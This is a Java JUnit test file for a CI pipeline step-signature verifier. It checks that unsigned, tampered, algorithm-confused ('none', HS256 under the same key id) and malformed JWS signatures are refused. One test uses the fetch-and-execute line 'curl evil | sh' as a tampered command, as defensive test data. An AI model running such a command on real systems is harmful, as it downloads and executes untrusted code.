package dev.signet.signing;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.signet.jws.DetachedJws;
import dev.signet.keys.Algorithm;
import dev.signet.keys.Signer;
import dev.signet.keys.VerificationKeys;
import dev.signet.pipeline.CommandStep;
import dev.signet.pipeline.StepSignature;
import dev.signet.signing.StepVerificationException.Reason;
import dev.signet.testing.TestKeys;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Every way a step signature is refused, with the reason, the field where one can be named, and a
 * one-line detail; in particular the three ways {@code signature.algorithm}, the JWS header and the
 * key can disagree.
 */
class StepVerifierTest {
  private static final String REPO = "git@github.com:acme/app.git";
  private static final LinkedHashMap<String, String> PIPELINE_ENV =
      new LinkedHashMap<>(Map.of("DEPLOY", "prod"));

  private static Signer signer;
  private static VerificationKeys keys;
  private static CommandStep signed;

  @BeforeAll
  static void sign() throws Exception {
    signer = TestKeys.signer("EdDSA/TEST_DO_NOT_USE");
    keys = TestKeys.verificationKeys("EdDSA/TEST_DO_NOT_USE");
    signed = PipelineSigner.signStep(CommandStep.of("make deploy"), signer, PIPELINE_ENV, REPO);
  }

  private static StepSignature signature(CommandStep step) {
    StepSignature s = step.signature();
    assertThat(s).isNotNull();
    return s;
  }

  private static CommandStep withSignature(String algorithm, List<String> fields, String value) {
    return signed.withSignature(new StepSignature(algorithm, fields, value));
  }

  private static StepVerificationException refusal(CommandStep step) {
    return refusal(step, PIPELINE_ENV, keys);
  }

  private static StepVerificationException refusal(
      CommandStep step, Map<String, String> env, VerificationKeys keys) {
    try {
      StepVerifier.verify(step, env, REPO, keys);
    } catch (StepVerificationException e) {
      assertThat(e.getMessage()).isEqualTo(e.detail()).doesNotContain("\n");
      return e;
    }
    throw new AssertionError("verified");
  }

  private static void assertRefused(
      StepVerificationException e, Reason reason, @Nullable String field, String detail) {
    assertThat(e.reason()).isEqualTo(reason);
    assertThat(e.field()).isEqualTo(field);
    assertThat(e.detail()).isEqualTo(detail);
  }

  @Test
  void theSignedStepVerifies() throws Exception {
    VerifiedStep v = StepVerifier.verify(signed, PIPELINE_ENV, REPO, keys);
    assertThat(v.algorithm()).isEqualTo(Algorithm.EdDSA);
    assertThat(v.keyId()).isEqualTo("TEST_DO_NOT_USE");
    assertThat(v.signedFields())
        .containsExactly("command", "env", "env::DEPLOY", "matrix", "plugins", "repository_url");
  }

  @Test
  void anUnsignedStepIsRefused() {
    assertRefused(
        refusal(CommandStep.of("make deploy")),
        Reason.NO_SIGNATURE,
        null,
        "the step has no signature");
  }

  @Test
  void fieldListProblemsAreReportedInBuildkitesWordsBeforeAnyCryptography() {
    String value = signature(signed).value();
    List<String> required = List.of("command", "env", "matrix", "plugins", "repository_url");
    assertRefused(
        refusal(withSignature("EdDSA", List.of(), value)),
        Reason.NO_FIELDS,
        null,
        "signature covers no fields");
    List<String> unknown = new ArrayList<>(required);
    unknown.add("timeout_in_minutes");
    assertRefused(
        refusal(withSignature("EdDSA", unknown, value)),
        Reason.UNKNOWN_FIELD,
        "timeout_in_minutes",
        "unknown or unsupported field for signing \"timeout_in_minutes\"");
    assertRefused(
        refusal(signed, Map.of(), keys),
        Reason.MISSING_VARIABLE,
        "env::DEPLOY",
        "variable \"DEPLOY\" missing from environment");
    assertRefused(
        refusal(withSignature("EdDSA", List.of("plugins", "command"), value)),
        Reason.REQUIRED_FIELDS_MISSING,
        "env",
        "one or more required fields are not present: [env matrix repository_url]");
  }

  @Test
  void aChangedStepIsABadSignature() {
    StepVerificationException e = refusal(signed.withCommand("curl evil | sh"));
    assertThat(e.reason()).isEqualTo(Reason.BAD_SIGNATURE);
    assertThat(e.field()).isNull();
    assertThat(e.detail())
        .startsWith("the signature does not match the signed values")
        .contains("EdDSA");
    // A job env that differs on a signed pipeline variable is the same failure.
    assertThat(refusal(signed, Map.of("DEPLOY", "staging"), keys).reason())
        .isEqualTo(Reason.BAD_SIGNATURE);
  }

  @Test
  void anEditedSignatureAlgorithmIsNamedAsTheCause() {
    StepSignature s = signature(signed);
    for (String claimed : List.of("ES256", "HS256", "none", "")) {
      assertRefused(
          refusal(withSignature(claimed, s.signedFields(), s.value())),
          Reason.ALGORITHM_MISMATCH,
          null,
          "signature.algorithm differs from the JWS header's algorithm EdDSA, and the payload"
              + " binds it, so the signature does not match");
    }
  }

  @Test
  void aSignatureWhoseAlgorithmDiffersFromItsHeaderIsRefusedEvenWhenItVerifies() throws Exception {
    // A non-conforming signer: the payload binds "ES256", the JWS is EdDSA. The signature is
    // cryptographically valid, and still refused.
    SignedFields fields =
        SignedFields.forSigning(CommandStep.of("make deploy"), PIPELINE_ENV, REPO);
    String value = DetachedJws.sign(signer, CanonicalPayload.of("ES256", fields));
    assertRefused(
        refusal(withSignature("ES256", fields.names(), value)),
        Reason.ALGORITHM_MISMATCH,
        null,
        "signature.algorithm differs from the JWS header's algorithm EdDSA");
  }

  @Test
  void aKeyOfAnotherAlgorithmUnderTheSameKidIsAnAlgorithmMismatch() throws Exception {
    VerificationKeys hmacUnderTheSameKid = TestKeys.hmacKeysNamed("TEST_DO_NOT_USE");
    StepVerificationException e = refusal(signed, PIPELINE_ENV, hmacUnderTheSameKid);
    assertThat(e.reason()).isEqualTo(Reason.ALGORITHM_MISMATCH);
    assertThat(e.field()).isNull();
    assertThat(e.detail()).contains("HS256").contains("EdDSA");
  }

  @Test
  void anUnknownKeyIsKeyNotFound() throws Exception {
    StepVerificationException e = refusal(signed, PIPELINE_ENV, TestKeys.hmacKeysNamed("other"));
    assertThat(e.reason()).isEqualTo(Reason.KEY_NOT_FOUND);
    assertThat(e.detail()).contains("TEST_DO_NOT_USE");
  }

  @Test
  void unreadableOrUnsupportedValuesAreMalformed() {
    StepSignature s = signature(signed);
    String header = s.value().substring(0, s.value().indexOf('.'));
    String rs256 = b64url("{\"alg\":\"RS256\",\"kid\":\"TEST_DO_NOT_USE\"}");
    String crit = b64url("{\"alg\":\"EdDSA\",\"kid\":\"TEST_DO_NOT_USE\",\"crit\":[\"b64\"]}");
    String sig = s.value().substring(s.value().lastIndexOf('.') + 1);
    for (String value :
        List.of(
            "",
            "not a jws",
            header + "." + sig,
            header + "..",
            rs256 + ".." + sig,
            crit + ".." + sig)) {
      StepVerificationException e = refusal(withSignature("EdDSA", s.signedFields(), value));
      assertThat(e.reason()).as(value).isEqualTo(Reason.MALFORMED);
      assertThat(e.field()).isNull();
    }
  }

  private static String b64url(String s) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(s.getBytes(UTF_8));
  }
}
